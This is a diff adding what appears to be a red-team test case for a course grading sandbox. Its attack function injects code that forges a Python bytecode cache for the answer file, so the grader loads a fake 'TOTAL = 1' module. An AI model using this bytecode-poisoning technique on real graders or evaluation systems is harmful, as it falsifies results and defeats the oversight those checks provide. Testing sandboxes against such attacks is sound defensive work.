@@ -1,0 +1,23 @@
+"""A compiled file of the solutions is put where Python would use it instead of them.
+
+Success: a trace.
+"""
+
+ALONE = True
+
+
+def attack(submission):
+    submission.first("""
+        import importlib.util, marshal, os, struct, sys
+        source = "/srv/course/answers.py"
+        try:
+            about = os.stat(source)
+            code = marshal.dumps(compile("TOTAL = 1", source, "exec"))
+            head = importlib.util.MAGIC_NUMBER
+            head += struct.pack("<III", 0, int(about.st_mtime), about.st_size)
+            target = importlib.util.cache_from_source(source)
+            os.makedirs(os.path.dirname(target), exist_ok=True)
+            open(target, "wb").write(head + code)
+        except OSError as error:
+            print(error)
+    """)
